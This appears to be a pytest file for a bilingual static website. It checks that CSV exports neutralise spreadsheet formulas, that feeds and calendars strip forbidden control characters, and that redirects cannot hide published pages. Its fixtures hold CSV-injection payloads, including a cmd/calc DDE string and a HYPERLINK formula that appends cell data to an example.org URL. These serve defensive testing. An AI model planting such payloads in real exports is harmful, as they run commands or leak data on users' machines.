"""Every output format is safe for its readers, whatever a pull request writes (issue 24).

- CSV: a cell a spreadsheet would run as a formula is neutralised (the OWASP rule),
  and every cell is within what Python's csv reader accepts by default.
- Atom feeds and calendars: characters XML 1.0 and RFC 5545 forbid are refused in
  content (tests/bad_content/) and removed on output; every feed parses with a strict
  XML parser, every calendar with two independent iCalendar libraries.
- Redirects may not start from an address the site publishes.
"""

from __future__ import annotations

import csv
import datetime
import io
import json
import re
import types

import icalendar
import pytest
import vobject
from jinja2 import Environment, FileSystemLoader
from lxml import etree

import feeds  # the hooks, for their output guards
import redirects
from conftest import FIXTURES, ROOT, PendingBuild, copy_repository, run_build, use_fixture_content
from site_content import Content, Initiative, Localized, Term, export, routes
from site_content import calendar as ics
from site_content.characters import FORBIDDEN
from site_content.loader import RESERVED_SLUGS
from site_content.model import Event, Location, NewsItem, Organisation
from site_content.strings import load_strings

# What a spreadsheet takes as the start of a formula, also after leading white space.
FORMULA = re.compile(r"^(?:[\t\r]|\s*[=+\-@])")
# RFC 5545's CONTROL (3.1): no content line may hold one.
ICS_CONTROL = re.compile(rb"[\x00-\x08\x0a-\x1f\x7f]")

HOSTILE_PARTNER = """\
name: {sv: "-2+3+cmd|' /C calc'!A0", en: "@SUM(1+1)"}
description: {sv: En beskrivning., en: A description.}
"""
HOSTILE_INITIATIVE = """\
name: {sv: '=HYPERLINK("https://example.org/?"&A1;"Klicka")', en: '+IMPORTXML("https://example.org";"//a")'}
summary: {sv: "\\t=1+1 efter en tabb", en: "  @SUM(1;2) after spaces"}
themes: [skola]
municipalities: [lund]
partners: [formelpart]
organisation: {name: "\\r-1+1 efter vagnretur", type: ideell-forening}
stage: test
started: 2016
contact: =cmd@example.org
image:
  src: images/initiatives/exempel-odlingslotten.svg
  alt: {sv: "=1+1", en: "-1"}
added: 2026-11-20
"""


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The fixture content plus an initiative and a partner whose every text starts a formula."""
    source = copy_repository(tmp_path_factory.mktemp("hostile") / "repo")
    use_fixture_content(source, [FIXTURES / "initiatives" / "abborren.yml"])
    (source / "content" / "partners" / "formelpart.yml").write_text(HOSTILE_PARTNER, "utf-8")
    (source / "content" / "initiatives" / "formler.yml").write_text(HOSTILE_INITIATIVE, "utf-8")
    return PendingBuild(source, source.parent / "site").result()


# --- CSV ----------------------------------------------------------------------


def read_csv(site) -> list[dict[str, str]]:
    """The export as any program reads it: Python's csv reader with its default limits."""
    assert csv.field_size_limit() == 131072
    text = site.path("data/initiatives.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_never_start_a_formula(hostile_site):
    rows = {row["slug"]: row for row in read_csv(hostile_site)}
    hostile = rows["formler"]
    assert hostile["name_sv"] == '\'=HYPERLINK("https://example.org/?"&A1;"Klicka")'
    assert hostile["name_en"] == '\'+IMPORTXML("https://example.org";"//a")'
    # Texts are read stripped: the tab and the spaces are gone, the formula stays neutralised.
    assert hostile["summary_sv"] == "'=1+1 efter en tabb"
    assert hostile["summary_en"] == "'@SUM(1;2) after spaces"
    assert hostile["organisation_name"] == "'-1+1 efter vagnretur"
    assert hostile["partners_sv"] == "'-2+3+cmd|' /C calc'!A0"
    assert hostile["partners_en"] == "'@SUM(1+1)"
    assert hostile["contact"] == "'=cmd@example.org"
    assert (hostile["image_alt_sv"], hostile["image_alt_en"]) == ("'=1+1", "'-1")
    for row in rows.values():
        for column, cell in row.items():
            assert not FORMULA.match(cell), (row["slug"], column, cell)
            assert len(cell) <= export.CELL_LIMIT


def test_json_keeps_every_text_as_written(hostile_site):
    records = json.loads(hostile_site.path("data/initiatives.json").read_text("utf-8"))["initiatives"]
    hostile = next(record for record in records if record["slug"] == "formler")
    assert hostile["name"]["sv"] == '=HYPERLINK("https://example.org/?"&A1;"Klicka")'
    assert hostile["contact"] == "=cmd@example.org"
    assert hostile["partners"][0]["name"]["sv"] == "-2+3+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\rtext", "'\rtext"),
        ("\ttext", "'\ttext"),
        ("  =1+1", "'  =1+1"),
        ("\n\n@x", "'\n\n@x"),
        ("\u00a0=1", "'\u00a0=1"),
        ("Läxhjälp = glädje", "Läxhjälp = glädje"),
        ("info@example.org", "info@example.org"),
        ("https://example.org/?a=-1", "https://example.org/?a=-1"),
        ("2016", "2016"),
        ("", ""),
        ("a\x00b\x1cc\ufffe", "abc"),
    ],
)
def test_spreadsheet_cell_follows_the_owasp_rule(text, cell):
    assert export.spreadsheet_cell(text) == cell


def initiative(**fields) -> Initiative:
    def term(vocabulary: str, key: str) -> Term:
        return Term(vocabulary, key, Localized(key), {"sv": key, "en": key})

    values = {
        "slug": "lang",
        "source": "",
        "name": Localized("Namn"),
        "summary": Localized("Sammanfattning"),
        "description": None,
        "themes": [term("themes", "skola")],
        "municipalities": [term("municipalities", "lund")],
        "partners": [],
        "organisation": Organisation("Föreningen", term("organisation_types", "ideell-forening")),
        "stage": term("stages", "ide"),
        "started": 2016,
        "added": datetime.date(2026, 11, 20),
    }
    return Initiative(**{**values, **fields})


def test_a_cell_of_any_length_reads_with_the_default_csv_reader():
    """A description or address longer than a spreadsheet cell is cut; the JSON has it whole."""
    long = "x" * 240_000
    item = initiative(description=Localized("=" + long), website="https://example.org/" + long)
    text, line = export.encode_record(
        export.initiative_record(item, lambda path: "https://example.org/" + path)
    )
    assert json.loads(text)["website"].endswith(long)  # the JSON record is whole
    (row,) = list(csv.reader(io.StringIO(line, newline="")))
    cells = dict(zip(export.CSV_COLUMNS, row, strict=True))
    assert len(cells["description_sv"]) == len(cells["website"]) == export.CELL_LIMIT
    assert cells["description_sv"].startswith("'=xxx") and cells["description_sv"].endswith("x…")
    assert cells["website"].startswith("https://example.org/xxx")


# --- Feeds and calendars ---------------------------------------------------------


def strict_xml(data: bytes) -> etree._Element:
    parser = etree.XMLParser(recover=False, resolve_entities=False, no_network=True)
    return etree.fromstring(data, parser)


def test_every_feed_is_well_formed_xml(hostile_site):
    feeds_found = sorted(hostile_site.root.rglob("*.xml"))
    names = {path.relative_to(hostile_site.root).as_posix() for path in feeds_found}
    assert {"feed.xml", "en/feed.xml", "aktuellt/feed.xml", "en/news/feed.xml", "sitemap.xml"} <= names
    for path in feeds_found:
        strict_xml(path.read_bytes())


def parse_twice(data: bytes) -> tuple[int, int]:
    """The events of one calendar as icalendar and as vobject read them."""
    assert not ICS_CONTROL.search(data.replace(b"\r\n", b"")), data
    by_icalendar = icalendar.Calendar.from_ical(data).walk("VEVENT")
    (by_vobject,) = list(vobject.readComponents(data.decode("utf-8")))
    return len(by_icalendar), len(by_vobject.contents.get("vevent", []))


def test_every_calendar_parses_with_two_libraries(hostile_site):
    calendars = sorted(hostile_site.root.rglob("*.ics"))
    assert len(calendars) > 2
    for path in calendars:
        by_icalendar, by_vobject = parse_twice(path.read_bytes())
        assert by_icalendar == by_vobject > 0, path


CONTROLS = "\x00\x01\x0b\x1c\x7f\x85\ufffe\ud800"


def test_calendars_leave_out_what_rfc_5545_forbids():
    """The second guard: content cannot hold these (yamlsource), and the calendar drops them."""
    event = Event(
        slug="mote",
        source="",
        title=Localized(f"Möte{CONTROLS}; i dag"),
        summary=Localized(f"Sam{CONTROLS}manfattning"),
        description=None,
        start=datetime.datetime(2027, 3, 28, 10, 0),
        end=None,
        location=Location(f"Sal{CONTROLS}en", f"Gatan{CONTROLS} 1", None),
        online=None,
        organisers=[],
        registration=None,
        added=datetime.date(2026, 11, 20),
    )
    text = ics.calendar([event], "sv", f"Kalender{CONTROLS}", lambda path: "https://example.org/" + path, "x")
    assert not FORBIDDEN.search(text)
    assert parse_twice(text.encode("utf-8")) == (1, 1)
    assert "SUMMARY:Möte\\; i dag" in text


def test_feeds_leave_out_what_xml_forbids():
    """The second guard of the feeds' hook, rendered with the site's templates."""
    name = Localized(f"Namn{CONTROLS}", f"Name{CONTROLS}")
    item = initiative(name=name, summary=name)
    news = NewsItem(
        slug="nyhet", source="", title=name, summary=name, body=name, published=datetime.date(2026, 11, 20)
    )
    written: dict[str, types.SimpleNamespace] = {}
    build = types.SimpleNamespace(
        strings=load_strings(),
        env=Environment(loader=FileSystemLoader(ROOT / "overrides")),
        content=Content({}, {item.slug: item}, {}, news={news.slug: news}),
    )
    files = types.SimpleNamespace(
        get_file_from_path=lambda path: written.setdefault(path, types.SimpleNamespace())
    )
    config = types.SimpleNamespace(site_url="https://example.org/", site_name="Webbplatsen")
    feeds.render(build, files, config)
    assert len(written) == 4
    for path, file in written.items():
        assert not FORBIDDEN.search(file.content_string), path
        strict_xml(file.content_string.encode("utf-8"))


# --- Redirects -------------------------------------------------------------------

REDIRECTS = """\
/index.html: background
/en/index.html: background
/404.html: background
/robots.txt/: background
/initiativ/index.html: background
/search/search_index.json/: background
/gammal-adress/: background
"""


def taken(line: int, column: int, field: str, url: str, file: str | None = None) -> str:
    """The message for a redirect from a published page or, with ``file``, onto a file."""
    where = f"content/redirects.yml:{line}:{column} (fält {field}): Adressen {url}"
    if file is None:
        return (
            f"{where} är redan en sida på webbplatsen; en omdirigering där skulle dölja den. Ta bort raden."
        )
    return (
        f"{where} krockar med filen {file}, som webbplatsen redan publicerar; en omdirigering där skulle "
        "ersätta eller dölja den. Ta bort raden, eller skriv den gamla adressen som en mapp, till exempel "
        "/gammal-sida/."
    )


def test_redirects_may_not_take_over_an_address_the_site_publishes(tmp_path):
    source = use_fixture_content(
        copy_repository(tmp_path / "repo"), [FIXTURES / "initiatives" / "abborren.yml"]
    )
    (source / "content" / "redirects.yml").write_text(REDIRECTS, "utf-8")
    result = run_build(source, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output and "FileExistsError" not in output
    expected = [
        taken(1, 14, "/index.html", "/index.html"),
        taken(1, 14, "/index.html", "/en/index.html"),
        taken(2, 17, "/en/index.html", "/en/index.html"),
        taken(3, 12, "/404.html", "/404.html"),
        taken(4, 15, "/robots.txt/", "/robots.txt/", "/robots.txt"),
        taken(5, 24, "/initiativ/index.html", "/initiativ/index.html"),
        taken(6, 29, "/search/search_index.json/", "/search/search_index.json/", "/search/search_index.json"),
        taken(
            6,
            29,
            "/search/search_index.json/",
            "/en/search/search_index.json/",
            "/en/search/search_index.json",
        ),
    ]
    report = [line.strip() for line in output.splitlines() if line.strip().startswith("- content/redirects")]
    reported = [line[2:] for line in report]
    assert reported[: len(expected)] == expected
    assert len(reported) == 2 * len(expected)  # and again in English
    assert "gammal-adress" not in output
    assert not (tmp_path / "site" / "index.html").exists()


def test_a_redirect_onto_a_file_written_after_the_check_is_never_written(tmp_path):
    """The build's last guard (hooks/redirects.write): a file or a folder that is a file."""
    (tmp_path / "robots.txt").write_text("User-agent: *\n", "utf-8")
    (tmp_path / "gammal").mkdir()
    assert redirects._occupant(tmp_path, "robots.txt/index.html", previewing=False) == "robots.txt"
    assert redirects._occupant(tmp_path, "robots.txt", previewing=False) == "robots.txt"
    assert redirects._occupant(tmp_path, "gammal/index.html", previewing=False) is None
    # The preview writes into last build's folder: its own redirect is there already.
    assert redirects._occupant(tmp_path, "robots.txt", previewing=True) is None
    assert redirects._occupant(tmp_path, "robots.txt/index.html", previewing=True) == "robots.txt"


# --- Dates and addresses: a clear message, never a traceback -----------------------


def test_every_fixed_segment_of_the_routes_is_a_reserved_file_name():
    """Derived from the routes: a new section cannot be forgotten here."""
    slug = "x-slug"
    for lang in routes.LANGUAGES:
        urls = [
            routes.partner(lang, slug),
            routes.initiative(lang, slug),
            routes.catalogue_page(lang, 2),
            *(routes.term(lang, vocabulary, slug) for vocabulary in routes.TERM_VOCABULARIES),
            routes.news_item(lang, slug),
            routes.news_page(lang, 2),
            routes.event(lang, slug),
        ]
        segments = {part for url in urls for part in url.split("/") if part not in ("", slug, "2")}
        assert segments <= RESERVED_SLUGS
    assert {"tema", "kommun", "theme", "municipality", "sida", "page"} <= RESERVED_SLUGS


EVENT_ON_THE_LAST_DAY = """\
title: {sv: Sista dagen, en: The last day}
summary: {sv: En mening., en: One sentence.}
start: 9999-12-31
location: {name: Testsalen, municipality: lund}
organisers: [coompanion-skane]
added: 2026-11-20
"""


def test_a_year_out_of_range_and_a_section_name_fail_the_build_with_a_message(tmp_path):
    """Both passed the check before: the all-day event failed the build with an
    OverflowError, the initiative 'tema' became the parent crumb of every theme page."""
    source = copy_repository(tmp_path / "repo")
    use_fixture_content(source, [FIXTURES / "initiatives" / "abborren.yml"])
    (source / "content" / "events" / "sista-dagen.yml").write_text(EVENT_ON_THE_LAST_DAY, "utf-8")
    abborren = (FIXTURES / "initiatives" / "abborren.yml").read_text("utf-8")
    (source / "content" / "initiatives" / "tema.yml").write_text(abborren, "utf-8")
    result = run_build(source, tmp_path / "site")
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "Traceback" not in output and "OverflowError" not in output
    assert (
        "content/events/sista-dagen.yml:3:8 (fält start): '9999-12-31' ligger utanför de år "
        "webbplatsen tar emot (1900–2100). Rätta årtalet."
    ) in output
    assert (
        "content/initiatives/tema.yml: Filnamnet 'tema.yml' går inte att använda: 'tema' är redan en del "
        "av webbplatsens adresser (/initiativ/tema/). Ge filen ett längre namn, till exempel "
        "'tema-skane.yml'."
    ) in output
    assert "(field start): '9999-12-31' is outside the years the site accepts (1900–2100)." in output
